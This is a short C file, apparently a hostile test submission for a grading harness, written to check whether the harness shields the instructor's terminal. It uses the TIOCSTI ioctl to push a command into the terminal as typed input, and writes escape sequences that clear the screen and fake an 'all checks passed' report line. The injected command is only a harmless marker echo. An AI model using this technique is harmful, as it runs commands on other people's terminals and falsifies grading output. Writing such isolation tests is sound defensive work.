/* echo_server.c - hostile: reach the instructor's terminal.
 *
 * TIOCSTI pushes bytes into the terminal's input as if typed: the shell runs them as the
 * instructor's next command once the grader exits. Raw escape sequences written to the
 * terminal clear the screen, retitle the window and fake a line of the report. Both go to
 * /dev/tty (the controlling terminal, if the program still has one) and to fds 0-2. */
#include "wlh.h"

#include <sys/ioctl.h>

static const char typed[] = "echo " WLH_MARK "-pwned\n";
static const char screen[] = "\033[2J\033[H\033]0;pwned\007\033[32m  ok  all checks passed\033[0m\n";

int main(void)
{
	int tty = open("/dev/tty", O_RDWR | O_NOCTTY);
	int fds[] = { tty, 0, 1, 2 };

	for (size_t i = 0; i < sizeof fds / sizeof *fds; i++) {
		if (fds[i] < 0)
			continue;
		for (const char *c = typed; *c; c++)
			if (ioctl(fds[i], TIOCSTI, c) < 0)
				break;
		if (write(fds[i], screen, sizeof screen - 1) < 0)
			continue;
	}
	return 1;
}
